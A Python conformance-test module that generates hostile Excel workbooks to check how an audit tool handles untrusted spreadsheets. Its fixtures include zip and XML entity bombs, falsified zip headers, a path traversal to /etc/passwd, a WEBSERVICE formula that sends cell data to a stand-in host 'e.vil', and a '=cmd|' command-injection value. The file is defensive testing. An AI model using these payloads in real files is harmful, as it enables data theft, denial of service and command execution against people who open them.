"""Workbooks from strangers: bombs, macros, cells that are not what they seem."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

from tests.conformance.hostile.case import LEAVERS, Hostile, Words, audit, file_audit
from tests.conformance.hostile.workbook import (
    MAIN,
    MOMENT,
    SHEET,
    WORKBOOK,
    Xml,
    number,
    packed,
    parts,
    sheet,
    workbook,
)

NAME = "leavers.xlsx"
ROWS: list[list[object]] = [list(LEAVERS[0]), *(list(row.values()) for row in LEAVERS)]
SOUND = parts(sheet(ROWS))
MEGABYTE = 1 << 20
OPEN = f'<worksheet xmlns="{MAIN}">'


def _of(data: bytes, population: dict[str, Any], folder: Path) -> Words:
    return file_audit(folder, NAME, data, **population)


def _file(cause: str, code: int, told: str, data: bytes, **population: Any) -> Hostile:
    return Hostile(f"xlsx-{cause}", code, told, partial(_of, data, population))


def _parts(cause: str, code: int, told: str, **replaced: str | bytes) -> Hostile:
    return _file(cause, code, told, packed(SOUND | replaced))


def _made(cause: str, code: int, told: str, make: Any) -> Hostile:
    """Of a file that is large, and so is made when it is asked for."""
    return Hostile(f"xlsx-{cause}", code, told, lambda folder: _of(make(), {}, folder))


def _rows(cause: str, code: int, told: str, *rows: list[object], after: str = "") -> Hostile:
    """Rows after the sound ones: the first stands in row 27."""
    return _file(cause, code, told, workbook([*ROWS, *rows], after))


def cases() -> Iterator[Hostile]:
    yield from _sound()
    yield from _bombs()
    yield from _lying_archives()
    yield from _what_acts()
    yield from _what_is_no_workbook()
    yield from _cells()
    yield from _sheets()


def _sound() -> Iterator[Hostile]:
    yield _file("of-leavers", 0, "EXCEPTIONS  none", packed(SOUND))
    late = [[*row[:2], None, *row[3:]] if n == 7 else row for n, row in enumerate(ROWS)]
    yield _file("of-a-leaver-who-stayed", 0, "EXCEPTIONS", workbook(late))


def _bombs() -> Iterator[Hostile]:
    size = r"leavers\.xlsx: error\[E-XLSX-SIZE\]"
    texts = "xl/sharedStrings.xml"
    ratio, endless = f"{size}.*200 times", f"{size}.*does not end"

    def bomb(
        cause: str, told: str, part: str, *xml: tuple[str, int], stored: bool = False
    ) -> Hostile:
        """Texts with how often they stand in the part; `stored` unpacked, as no ratio tells of."""

        def made() -> bytes:
            contents = "".join(text * times for text, times in xml)
            if stored:
                rest = {name: data for name, data in SOUND.items() if name != part}
                return _appended(packed(rest), part, contents.encode())
            return packed(SOUND | {part: contents})

        return _made(f"bomb-of-{cause}", 2, told, made)

    begun = (f"{OPEN}<sheetData>", 1)
    yield bomb("blanks", ratio, SHEET, (OPEN, 1), (" ", 30 * MEGABYTE), ("</worksheet>", 1))
    yield bomb("rows", ratio, SHEET, begun, ("<row><c><v>1</v></c></row>", MEGABYTE))
    shared = (f'<sst xmlns="{MAIN}"><si><t>', 1)
    yield bomb("a-text", endless, texts, shared, ("xyzzy" * 2 * MEGABYTE, 1), stored=True)
    cell = "<row r='1'><c r='A1' t='str'><v>"
    yield bomb("a-cell", endless, SHEET, begun, (cell, 1), ("x", 10 * MEGABYTE), stored=True)
    tag = '<row a="'
    yield bomb("a-tag", endless, SHEET, begun, (tag, 1), ("x", 50 * MEGABYTE), stored=True)
    comment = "<!--"
    yield bomb("a-remark", endless, SHEET, begun, (comment, 1), ("x", 10 * MEGABYTE), stored=True)
    more = f"{size}.*nests deeper or holds more"
    yield bomb("depth", more, SHEET, (OPEN, 1), ("<a>", MEGABYTE), stored=True)
    # A text stored once and shown ten thousand times is as large as the cells that show it.
    shown = "".join('<row><c t="s"><v>0</v></c></row>' for _ in range(10_000))
    once = {
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{"ab" * 16_000}</t></si></sst>',
        SHEET: f"{OPEN}<sheetData>{shown}</sheetData></worksheet>",
    }
    yield _file("text-that-multiplies", 2, f"{size}.*million letters", packed(SOUND | once))
    corner = [*ROWS, *([None] for _ in range(3))]
    far = sheet(corner).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    yield _parts(
        "cell-in-the-last-corner", 2, r"xlsx:27:1: .*xlsx:1048576:16384.*beside", **{SHEET: far}
    )
    wide = [[f"c{n}" for n in range(900)], *([n] for n in range(2_000))]
    yield _file("nothing-but-empty-cells", 2, f"{size}.*1,000,000 cells", workbook(wide))
    names = {f"xl/media/{n}.xml": "" for n in range(3_000)}
    yield _parts("three-thousand-parts", 2, f"{size}.*2,000 parts", **names)
    yield _parts("quadratic-entities", 2, "declares a document type", **{SHEET: _entities()})
    same = {"xl/sharedStrings.xml": _entities()}
    yield _parts("entities-among-its-texts", 2, "declares a document type", **same)


def _entities() -> str:
    inner = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{inner}]><worksheet xmlns="{MAIN}">&l9;</worksheet>'


def _appended(data: bytes, name: str, contents: bytes) -> bytes:
    sink = io.BytesIO(data)
    with zipfile.ZipFile(sink, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), contents, zipfile.ZIP_STORED)
    return sink.getvalue()


def _lying_archives() -> Iterator[Hostile]:
    whole = packed(SOUND)
    end = whole.rindex(b"PK\x05\x06")
    directory = whole.index(b"PK\x01\x02")
    entry = whole.rindex(b"PK\x01\x02")

    def changed(at: int, form: str, value: int) -> bytes:
        new = struct.pack(form, value)
        return whole[:at] + new + whole[at + len(new) :]

    broken = "cannot be read"
    yield _file("cut-in-half", 3, broken, whole[: len(whole) // 2])
    yield _file("without-its-end", 3, broken, whole[:-10])
    yield _file("empty", 3, broken, b"")
    yield _file("noise", 3, broken, bytes(range(256)) * 40)
    yield _file("directory-of-four-gigabytes", 3, broken, changed(end + 12, "<I", 2**32 - 2))
    yield _file("directory-elsewhere", 2, "overlap", changed(end + 16, "<I", 2**31))
    size = r"error\[E-XLSX-SIZE\].*overlap"
    first = changed(entry + 42, "<I", 0)
    yield _file("parts-that-overlap", 2, size, first)
    yield _file("part-longer-than-the-file", 2, size, changed(entry + 20, "<I", 10**6))
    yield _file("size-that-lies", 3, broken, changed(entry + 24, "<I", 10))
    declared = r"error\[E-XLSX-SIZE\].*256 MiB"
    yield _file("size-of-four-gigabytes", 2, declared, changed(entry + 24, "<I", 2**32 - 2))
    yield _file("check-sum-that-lies", 3, broken, changed(entry + 16, "<I", 12345))
    yield _file(
        "part-that-is-encrypted",
        2,
        "parts of the workbook are encrypted",
        changed(directory + 8, "<H", 1),
    )
    yield _file(
        "packed-in-another-way", 3, "packed as no spreadsheet", changed(directory + 10, "<H", 14)
    )
    twice = _appended(whole, SHEET.upper(), b"x")
    yield _file("two-parts-of-one-name", 3, "two of its parts have one name", twice)


def _what_acts() -> Iterator[Hostile]:
    macros = r"leavers\.xlsx: error\[E-XLSX-MACROS\].*not run.*without macros"
    yield _parts("with-macros", 2, macros, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    old = f'<xm:macrosheet xmlns:xm="{MAIN}"/>'
    yield _parts("with-macros-of-1992", 2, macros, **{"xl/macrosheets/sheet1.xml": old})
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = f"<Types><Override ContentType='{kind}'/></Types>"
    yield _parts("that-says-it-has-macros", 2, macros, **{"[Content_Types].xml": types})
    links = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    yield _parts("of-values-from-elsewhere", 2, r"E-XLSX-LINKS.*break its links", **links)
    rels = str(SOUND["xl/_rels/workbook.xml.rels"])
    outside = rels.replace('Target="worksheets', 'TargetMode="External" Target="worksheets')
    away = {"xl/_rels/workbook.xml.rels": outside}
    yield _parts("of-a-sheet-elsewhere", 3, "a sheet that it does not hold", **away)
    out = rels.replace("worksheets/sheet1.xml", "../../../../../../etc/passwd")
    yield _parts(
        "that-leads-out-of-itself",
        3,
        "its part `passwd` is missing",
        **{"xl/_rels/workbook.xml.rels": out},
    )
    call = '<c r="@" t="str"><f>WEBSERVICE("http://e.vil/"&amp;A1)</f><v>=cmd|%s</v></c>'
    calls = [[Xml(call % n), *row[1:]] for n, row in enumerate(ROWS[1:])]
    yield _file("of-formulas-that-call", 0, "simulation", workbook([ROWS[0], *calls]))


def _what_is_no_workbook() -> Iterator[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    yield _file("with-a-password", 2, r"protected by a password, or of the old kind `\.xls`", ole)
    yield _file(
        "that-is-a-document", 3, "its part `.rels` is missing", packed({"content.xml": "<x/>"})
    )
    binary = {"_rels/.rels": str(SOUND["_rels/.rels"]).replace("workbook.xml", "workbook.bin")}
    yield _parts("that-is-binary", 2, "is a binary workbook", **binary)
    yield _file(
        "that-is-a-csv", 3, "it is no workbook", b"person,left_at\nx,2025-01-01T00:00:00Z\n"
    )
    yield _parts("without-its-sheet", 3, "is no sound XML", **{SHEET: b""})
    yield _parts("of-another-root", 2, "holds no cell with a value", **{SHEET: "<html>x</html>"})
    utf_16 = str(SOUND[SHEET]).encode("utf-16")
    yield _parts("in-utf-16", 0, "EXCEPTIONS  none", **{SHEET: utf_16})
    yield _parts(
        "in-latin-1",
        3,
        "is no sound XML",
        **{SHEET: str(SOUND[SHEET]).replace("idp", "\xe9").encode("latin-1")},
    )
    for kind in ("xlsm", "xls", "xlsb", "ods"):
        stated = {"population_": {"file": f"evidence/leavers.{kind}"}}
        yield Hostile(
            f"xlsx-called-{kind}",
            2,
            r"E-EVIDENCE-FORMAT.*as \.xlsx|it as such",
            partial(audit, **stated),
        )


def _cells() -> Iterator[Hostile]:
    def cell(cause: str, told: str, written: object, code: int = 2) -> Hostile:
        row = ["x", "2025-01-01T00:00:00Z", written, "idp"]
        return _rows(cause, code, rf"leavers\.xlsx:27:3.*{told}", row)

    yield cell("cell-in-error", "shows `#REF!`", Xml('<c r="@" t="e"><v>#REF!</v></c>'))
    yield cell("formula-without-its-value", "not its value", Xml('<c r="@"><f>NOW()</f><v/></c>'))
    yield cell(
        "cell-of-no-text", "a text that the workbook lacks", Xml('<c r="@" t="s"><v>9</v></c>')
    )
    yield cell("cell-beyond-all-numbers", "`1e999` is no value", number("1e999"))
    yield cell("day-that-never-was", "`60` has the format of a day", number(60, MOMENT))
    yield cell("year-10000", "`2958466` has the format", number(2958466, MOMENT))
    yield cell("year-zero", "is not an instant", "0000-01-01T00:00:00Z", 3)
    yield cell("day-without-its-format", "number of a day", 45839.5, 3)
    yield cell("moment-without-a-zone", "state the population's `zone`", number(45839.5, MOMENT), 3)
    never = [[*row[:2], number("2958465.5", MOMENT), *row[3:]] for row in ROWS[1:]]
    yield _file("year-9999", 0, "9999-12-31|exceptions", workbook([ROWS[0], *never]), zone="UTC")
    merged = '<mergeCells><mergeCell ref="A26:A27"/></mergeCells>'
    yield _rows(
        "merged-cells", 2, "xlsx:26:1.*`A26:A27` are merged", [None, *ROWS[1][1:]], after=merged
    )
    title = workbook([["Leavers of 2025"], *ROWS])
    yield _file("title-above-the-header", 2, r"xlsx:1:1.*not look like a header", title)
    head = '<mergeCells><mergeCell ref="A1:D1"/></mergeCells>'
    yield _file("header-that-is-merged", 2, r"xlsx:1:1.*merged", workbook(ROWS, head))
    yield _rows("row-left-empty", 2, r"xlsx:27:1.*2 rows .*empty", [], [], ROWS[1])
    total = ["Total", None, 25, None]
    yield _rows("row-of-totals", 3, r"xlsx:27:3.*a row of totals is no record", total)
    twice = [[*row, "x"] for row in ROWS]
    twice[0][-1] = "person"
    yield _file("column-twice", 2, r"xlsx:1:5.*stands in the header twice", workbook(twice))
    styled = [
        [f"\x7f\u202e[bold]{n}[/]\x9b31m\u2028", *row[1:2], None] for n, row in enumerate(ROWS[1:])
    ]
    yield _file("keys-that-style-a-terminal", 0, r"\\u202e\[bold\]", workbook([ROWS[0], *styled]))


def _sheets() -> Iterator[Hostile]:
    two = parts(sheet(ROWS), sheet([["note"], ["x"]]), names=("Leavers", "[red]\u202eNotes"))
    told = r"scenario\.yaml:\d+:\d+: error\[E-SHEET\].*2 sheets: `Leavers`, `\[red\]"
    yield _file("of-two-sheets", 2, told, packed(two))
    yield _file("of-two-sheets-one-named", 0, "EXCEPTIONS  none", packed(two), sheet="Leavers")
    yield _file("sheet-misspelt", 2, "did you mean `Leavers`", packed(two), sheet="leaver")
    hidden = parts(sheet(ROWS), states=("veryHidden",))
    yield _file("sheet-that-is-hidden", 2, r"E-SHEET.*`Leavers` \(hidden\)", packed(hidden))
    one = {"population_": {"sheet": "Leavers"}}
    yield Hostile("xlsx-sheet-of-a-csv", 2, r"E-NO-SHEETS.*has no sheets", partial(audit, **one))
    crowd = str(SOUND[WORKBOOK]).replace("</sheets>", "<sheet name='x'/>" * 50_000 + "</sheets>")
    yield _parts(
        "sheets-that-are-not-there", 3, "a sheet that it does not hold", **{WORKBOOK: crowd}
    )
